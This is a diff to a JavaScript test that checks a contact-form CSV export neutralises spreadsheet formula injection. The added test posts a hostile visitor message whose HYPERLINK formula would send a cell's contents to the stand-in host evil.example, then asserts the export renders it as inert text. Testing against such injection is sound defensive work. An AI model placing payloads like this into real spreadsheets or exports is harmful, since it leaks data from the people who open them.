@@ -205,6 +205,11 @@ it('exports contacts as CSV by an emailed link, only for the owner', async () =>
     method: 'POST', headers: { 'content-type': 'application/json', accept: 'application/json' },
     body: JSON.stringify({ name: 'Cleo, "the cook"', email: 'cleo@example.com', message: 'Catering for 20?' }),
   });
+  // A visitor's message a spreadsheet would run as a formula.
+  await fetch(`${running.base}/api/public/export-deli/contact`, {
+    method: 'POST', headers: { 'content-type': 'application/json', accept: 'application/json' },
+    body: JSON.stringify({ name: '@SUM(A1)', email: 'mallory@example.com', message: '=HYPERLINK("http://evil.example/?x="&A2,"Click")' }),
+  });
   const stranger = await signInByCode(running.base, 'nosy@example.com');
   expect((await stranger.client.post(`/api/websites/${id}/export-contacts`)).status).toBe(404);
   const asked = await client.post(`/api/websites/${id}/export-contacts`);
@@ -219,5 +224,8 @@ it('exports contacts as CSV by an emailed link, only for the owner', async () =>
   const text = await csv.text();
   expect(text.split('\n')[0]).toMatch(/^Name,Email,Message,Received at/);
   expect(text).toContain('"Cleo, ""the cook"""');
+  // Exported as text, never as a live formula.
+  expect(text).toContain(`'@SUM(A1),mallory@example.com,"'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")"`);
+  expect(text).not.toMatch(/(^|,)"?[=@+-]/m);
   expect((await fetch(`${running.base}${path.replace(/token=[^&]+/, 'token=wrong')}`)).status).toBe(404);
 });
